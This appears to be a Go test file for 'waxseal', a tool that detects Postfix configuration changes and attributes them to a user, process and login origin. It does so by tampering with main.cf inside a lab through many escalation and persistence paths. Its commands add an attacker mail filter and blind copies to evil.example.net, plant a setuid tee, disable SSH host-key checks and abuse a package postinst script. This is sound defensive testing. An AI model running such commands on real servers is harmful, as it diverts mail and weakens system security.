package agent_test

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"waxseal"
	"waxseal/internal/lab"
	"waxseal/internal/sensor/kaudit"
)

// deed is one way of being the one who changes main.cf.
type deed struct {
	name string
	// by runs in the lab, as root, in no login session; %s is the command that makes the
	// change. A deed by ssh has ssh instead.
	by  string
	ssh string // user@…; the command then runs in that login
	tty bool   // with a terminal
	key string // the ssh identity, below /root/.ssh; alice's by default
	// want is what the answer must say, of which nothing may be missing.
	want wanted
}

// wanted is what is known for certain of a deed, since the test did it.
type wanted struct {
	exe     string // base name of the program that wrote
	euid    uint32
	login   string // "" for none
	proven  bool   // the login
	origin  waxseal.OriginKind
	address string
	steps   string // "alice>root by sudo"
	spaces  string
	method  string
}

const sudoTee = "sudo tee -a /etc/postfix/main.cf"

// line is the change that a deed makes: a milter at a port of its own.
func line(port int) string { return fmt.Sprintf("smtpd_milters = inet:203.0.113.9:%d", port) }

// append is the command with which most deeds make it.
func appends(port int) string {
	return fmt.Sprintf("echo %s >> /etc/postfix/main.cf", line(port))
}

// deeds are the ways of the world.
var deeds = []deed{
	{name: "root by ssh with a key", ssh: "root", want: wanted{exe: "bash", login: "root", proven: true, origin: waxseal.OriginSSH, address: lab.AttackerAddr, method: "publickey"}},
	{name: "alice by ssh, sudo without a terminal", ssh: "alice", by: "echo %s | " + sudoTee, want: wanted{exe: "tee", login: "alice", proven: true, origin: waxseal.OriginSSH, address: lab.AttackerAddr, steps: "alice>root by sudo"}},
	{name: "alice by ssh, sudo at a terminal", ssh: "alice", tty: true, by: "echo %s | " + sudoTee, want: wanted{exe: "tee", login: "alice", proven: true, origin: waxseal.OriginSSH, address: lab.AttackerAddr, steps: "alice>root by sudo"}},
	{name: "a login with a certificate", ssh: "alice", key: "carded", by: "echo %s | " + sudoTee, want: wanted{exe: "tee", login: "alice", proven: true, origin: waxseal.OriginSSH, address: lab.AttackerAddr, steps: "alice>root by sudo"}},
	{name: "a key with command=", ssh: "alice", key: "forced", by: "%s", want: wanted{exe: "tee", login: "alice", proven: true, origin: waxseal.OriginSSH, address: lab.AttackerAddr, steps: "alice>root by sudo"}},
	{name: "su to root with root's password", ssh: "bob", by: "echo secret | su -c 'echo %s >> /etc/postfix/main.cf'", want: wanted{exe: "bash", login: "bob", proven: true, origin: waxseal.OriginSSH, address: lab.AttackerAddr, steps: "bob>root by su"}},
	{name: "doas", ssh: "alice", by: "echo %s | doas tee -a /etc/postfix/main.cf", want: wanted{exe: "tee", login: "alice", proven: true, origin: waxseal.OriginSSH, address: lab.AttackerAddr, steps: "alice>root by doas"}},
	{name: "sudo -u another", ssh: "alice", by: "echo %s | sudo -u bob tee -a /etc/postfix/main.cf", want: wanted{exe: "tee", euid: 1002, login: "alice", proven: true, origin: waxseal.OriginSSH, address: lab.AttackerAddr, steps: "alice>bob by sudo"}},
	{name: "su - another, from root", ssh: "root", by: "su - bob -c 'echo %s >> /etc/postfix/main.cf'", want: wanted{exe: "bash", euid: 1002, login: "root", proven: true, origin: waxseal.OriginSSH, address: lab.AttackerAddr, steps: "root>bob by su"}},
	{name: "a setuid program", ssh: "carol", by: "echo %s | /usr/local/bin/note -a /etc/postfix/main.cf", want: wanted{exe: "note", login: "carol", proven: true, origin: waxseal.OriginSSH, address: lab.AttackerAddr, steps: "carol>root by note"}},
	{name: "a shell that ends at once", ssh: "alice", by: "sudo sh -c 'echo %s >> /etc/postfix/main.cf'", want: wanted{exe: "dash", login: "alice", proven: true, origin: waxseal.OriginSSH, address: lab.AttackerAddr, steps: "alice>root by sudo"}},
	{name: "sftp", by: "cp /etc/postfix/main.cf /root/new && echo %s >> /root/new && echo put /root/new /etc/postfix/main.cf | " +
		"sftp -q -F none -i /root/.ssh/alice -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BindAddress=" + lab.AttackerAddr + " root@" + lab.ServerAddr,
		want: wanted{exe: "sftp-server", login: "root", proven: true, origin: waxseal.OriginSSH, address: lab.AttackerAddr}},
	{name: "scp", by: "cp /etc/postfix/main.cf /root/new && echo %s >> /root/new && " +
		"scp -q -O -F none -i /root/.ssh/alice -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BindAddress=" + lab.AttackerAddr + " /root/new root@" + lab.ServerAddr + ":/etc/postfix/main.cf",
		want: wanted{exe: "scp", login: "root", proven: true, origin: waxseal.OriginSSH, address: lab.AttackerAddr}},
	{name: "nohup and setsid, after the login has ended", ssh: "alice", by: "sudo sh -c \"setsid nohup sh -c 'sleep 1; echo %s >> /etc/postfix/main.cf' >/dev/null 2>&1 &\"",
		want: wanted{exe: "dash", login: "alice", proven: true, origin: waxseal.OriginSSH, address: lab.AttackerAddr, steps: "alice>root by sudo"}},
	{name: "tmux that outlives its login", ssh: "alice", by: "TERM=xterm tmux -L one new-session -d \"sleep 1; sudo sh -c 'echo %s >> /etc/postfix/main.cf'\"",
		want: wanted{exe: "dash", login: "alice", proven: true, origin: waxseal.OriginSSH, address: lab.AttackerAddr, steps: "alice>root by sudo"}},
	{name: "screen that outlives its login", ssh: "alice", by: "TERM=xterm screen -dmS one sh -c \"sleep 1; sudo sh -c 'echo %s >> /etc/postfix/main.cf'\"",
		want: wanted{exe: "dash", login: "alice", proven: true, origin: waxseal.OriginSSH, address: lab.AttackerAddr, steps: "alice>root by sudo"}},
	{name: "namespaces of its own (unshare)", ssh: "alice", by: "sudo unshare --mount --propagation unchanged --pid --fork sh -c 'echo %s >> /etc/postfix/main.cf; sleep 0.3'",
		want: wanted{exe: "dash", login: "alice", proven: true, origin: waxseal.OriginSSH, address: lab.AttackerAddr, steps: "alice>root by sudo", spaces: "mount pid"}},
	{name: "a maintainer script (dpkg -i)", ssh: "alice", by: "sudo dpkg -i /root/%d.deb >/dev/null 2>&1",
		want: wanted{exe: "dash", login: "alice", proven: true, origin: waxseal.OriginPackage, address: lab.AttackerAddr, steps: "alice>root by sudo"}},
	{name: "cron", by: "echo '@reboot root echo %s >> /etc/postfix/main.cf' > /etc/cron.d/once; rm -f /run/crond.reboot; cron; sleep 1; rm /etc/cron.d/once",
		want: wanted{exe: "dash", login: "root", proven: true, origin: waxseal.OriginCron}},
	{name: "at", by: "atd; echo 'echo %s >> /etc/postfix/main.cf' | at now 2>/dev/null; sleep 1",
		want: wanted{exe: "dash", login: "root", origin: waxseal.OriginCron}}, // atd sets it as the user daemon
	{name: "a web application's child", by: "setpriv --reuid=33 --regid=33 --clear-groups python3 -c \"import subprocess; subprocess.run(['sh','-c','echo %s >> /etc/postfix/main.cf'])\"",
		want: wanted{exe: "dash", euid: 33, proven: true, steps: "root>www-data by dash"}},
	{name: "login(1) at a terminal", by: "(sleep 0.5; echo 'echo %s >> /etc/postfix/main.cf'; sleep 0.5; echo exit) | script -q -c 'login -f root' /dev/null >/dev/null 2>&1",
		tty: true, want: wanted{exe: "bash", login: "root", proven: true, origin: waxseal.OriginConsole}},
}

// handsLab is a lab in which all of that can be done.
func handsLab(t *testing.T) (*lab.Lab, host) {
	t.Helper()
	l := lab.FreshOf(t, lab.Hands)
	for _, script := range []string{
		"chmod 0666 /etc/postfix/main.cf", // for those who are not root
		"for u in bob carol; do install -d -m 0700 -o $u -g $u /home/$u/.ssh; install -m 0600 -o $u -g $u /root/.ssh/alice.pub /home/$u/.ssh/authorized_keys; done",
		"install -m 0600 /root/.ssh/alice.pub /root/.ssh/authorized_keys",
		"for k in carded forced ca; do ssh-keygen -q -t ed25519 -N '' -C $k -f /root/.ssh/$k; done",
		"ssh-keygen -q -s /root/.ssh/ca -I alice-laptop -n alice -z 7 /root/.ssh/carded.pub",
		"cp /root/.ssh/ca.pub /etc/ssh/ca.pub && echo TrustedUserCAKeys /etc/ssh/ca.pub >>/etc/ssh/sshd_config.d/lab.conf",
		`echo "command=\"\$SSH_ORIGINAL_COMMAND\" $(cat /root/.ssh/alice.pub)" >/dev/null`,
		`echo "command=\"echo \\\"\$SSH_ORIGINAL_COMMAND\\\" | ` + sudoTee + `\" $(cat /root/.ssh/forced.pub)" >>/home/alice/.ssh/authorized_keys`,
		"mkdir -m 1777 /run/screen",
		"echo 'permit nopass alice' >/etc/doas.conf",
		"echo root:secret | chpasswd",
		"install -m 4755 /usr/bin/tee /usr/local/bin/note",
		"kill -HUP $(cat /run/sshd.pid)",
	} {
		if _, err := l.Exec(t.Context(), "/bin/sh", "-c", script); err != nil {
			t.Fatal(err)
		}
	}
	return l, host{t: t, root: l.Root, state: filepath.Join(l.Dir, "state")}
}

// parcel builds a package whose maintainer script makes the change.
func parcel(t *testing.T, l *lab.Lab, port int) {
	t.Helper()
	script := fmt.Sprintf(`d=$(mktemp -d); mkdir $d/DEBIAN; chmod 755 $d
printf 'Package: changer%[1]d\nVersion: 1\nArchitecture: all\nMaintainer: none <none@example.test>\nDescription: none\n' >$d/DEBIAN/control
printf '#!/bin/sh\n%[2]s\n' >$d/DEBIAN/postinst; chmod 755 $d/DEBIAN/postinst; dpkg-deb -b $d /root/%[1]d.deb`, port, appends(port))
	if _, err := l.Exec(t.Context(), "/bin/sh", "-c", script); err != nil {
		t.Fatal(err)
	}
}

// do makes a deed's change.
func (d deed) do(t *testing.T, l *lab.Lab, port int) {
	t.Helper()
	command := d.by
	switch {
	case command == "":
		command = appends(port)
	case strings.Contains(command, "%d"):
		parcel(t, l, port)
		command = fmt.Sprintf(command, port)
	default:
		command = fmt.Sprintf(command, line(port))
	}
	out, err := "", error(nil)
	switch {
	case d.ssh == "":
		out, err = l.Exec(t.Context(), "/bin/sh", "-c", command)
	default:
		out, err = l.Exec(t.Context(), sshArgs(d, command)...)
	}
	if err != nil {
		t.Fatalf("%v: %s", err, out)
	}
}

func sshArgs(d deed, command string) []string {
	key := "alice"
	if d.key != "" {
		key = d.key
	}
	args := []string{"ssh", "-q", "-F", "none", "-i", "/root/.ssh/" + key, "-b", lab.AttackerAddr, "-o", "BatchMode=yes", "-o", "IdentitiesOnly=yes",
		"-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null"}
	if d.tty {
		args = append(args, "-tt")
	}
	return append(args, d.ssh+"@"+lab.ServerAddr, command)
}

// handOf waits for the finding about a port, and for audit's proof if that is late.
func (w *watch) handOf(port int) told {
	w.t.Helper()
	target := fmt.Sprintf("inet:203.0.113.9:%d", port)
	f := w.find(target, func(f told) bool { return f.Change != nil && hands(f, target) })
	for late := time.After(time.Second); f.Actor.Process.Grade != waxseal.Proven; {
		select {
		case n := <-w.told:
			if n.ID == f.ID {
				f = n
			}
		case <-late:
			return f
		}
	}
	return f
}

// TestHands makes one change in the ways in which it is made in the world, and says
// what is known of whose hand it was, in docs/hands.md.
func TestHands(t *testing.T) {
	needRoot(t)
	l, h := handsLab(t)
	h.must("seal")
	w := h.watch()
	var rows []handRow
	for i, d := range deeds {
		t.Run(d.name, func(t *testing.T) {
			w.t = t
			port := 9001 + i
			d.do(t, l, port)
			f := w.handOf(port)
			d.want.check(t, f.Actor, d.tty)
			row := rowOf(d.name, f.Actor, l)
			row.told = since(t, h.path("/etc/postfix/main.cf"), f.at)
			rows = append(rows, row)
		})
	}
	w.t = t
	w.stop()
	h.must("ledger", "verify")
	if left := kaudit.Leftovers("waxseal"); len(left) > 0 {
		t.Errorf("audit rules are left: %q", left)
	}
	if !t.Failed() {
		publish(t, "ways", rows)
	}
}

// since is how long after its last write a file was told of.
func since(t *testing.T, name string, at time.Time) string {
	t.Helper()
	i, err := os.Stat(name)
	if err != nil {
		t.Fatal(err)
	}
	return fmt.Sprintf("%d ms after it was written", at.Sub(i.ModTime()).Milliseconds())
}

// check compares what was found with what was done.
func (d wanted) check(t *testing.T, a *waxseal.Actor, tty bool) {
	t.Helper()
	if a == nil {
		t.Fatal("no actor")
	}
	if base := filepath.Base(a.Process.Exe); base != d.exe || a.Process.Grade != waxseal.Proven || a.Process.EUID != d.euid {
		t.Errorf("process %s of %d [%s: %s], want %s of %d", a.Process.Exe, a.Process.EUID, a.Process.Grade, a.Process.Basis, d.exe, d.euid)
	}
	if a.Login.Name != d.login || (a.Login.Grade == waxseal.Proven) != d.proven {
		t.Errorf("login %+v, want %q", a.Login, d.login)
	}
	if a.Origin.Kind != d.origin && !(d.origin == "" && a.Origin.Kind == waxseal.OriginUnknown) || a.Origin.Address != d.address {
		t.Errorf("origin %+v, want %s %s", a.Origin, d.origin, d.address)
	}
	if d.address != "" && (a.Origin.Grade != waxseal.Proven || a.Origin.Port == 0 || a.Origin.Key == "" || a.Origin.KeyGrade != waxseal.Inferred) {
		t.Errorf("origin %+v, want port and key", a.Origin)
	}
	if got := stepWords(a); got != d.steps {
		t.Errorf("steps %q, want %q", got, d.steps)
	}
	if a.Login.Interactive != tty && !strings.Contains(d.exe, "dash") {
		t.Errorf("interactive: %v, at a terminal: %v", a.Login.Interactive, tty)
	}
	if got := strings.Join(a.Place.Namespaces, " "); got != d.spaces {
		t.Errorf("namespaces %q, want %q", got, d.spaces)
	}
	if t.Failed() {
		t.Logf("%s", dump(a))
	}
}

// TestTwoHandsAtOnce: two sessions change the same file at the same time; each change
// has its own hand, and where they can't be told apart neither is proven.
func TestTwoHandsAtOnce(t *testing.T) {
	needRoot(t)
	l, h := handsLab(t)
	h.must("seal")
	w := h.watch()
	for round := range 4 {
		ports := []int{9501 + 2*round, 9502 + 2*round}
		var both sync.WaitGroup
		for i, user := range []string{"alice", "bob"} {
			both.Go(func() {
				command := fmt.Sprintf("echo always_bcc = %s%d@evil.example.net >> /etc/postfix/main.cf", user, ports[i])
				if out, err := l.Exec(t.Context(), sshArgs(deed{ssh: user}, command)...); err != nil {
					t.Errorf("%v: %s", err, out)
				}
			})
		}
		both.Wait()
		last, err := os.ReadFile(filepath.Join(l.Root, "etc/postfix/main.cf"))
		if err != nil {
			t.Fatal(err)
		}
		text := strings.TrimSpace(string(last))
		winner := text[strings.LastIndex(text, " ")+1:]
		f := w.find(winner, func(f told) bool {
			return f.Change != nil && copies(f, winner)
		})
		if a := f.Actor; a.Login.Grade == waxseal.Proven && !strings.HasPrefix(winner, a.Login.Name) {
			t.Errorf("round %d: %s is the hand of %s, and named is %s [proven]", round, winner, strings.TrimRight(winner, "0123456789@evil.xampnt"), a.Login.Name)
		}
	}
}

func copies(f told, address string) bool {
	for _, c := range f.Change.Hooks.Changed {
		if c.After.Target.Value == address {
			return true
		}
	}
	for _, a := range f.Change.Hooks.Added {
		if a.Target.Value == address {
			return true
		}
	}
	return false
}
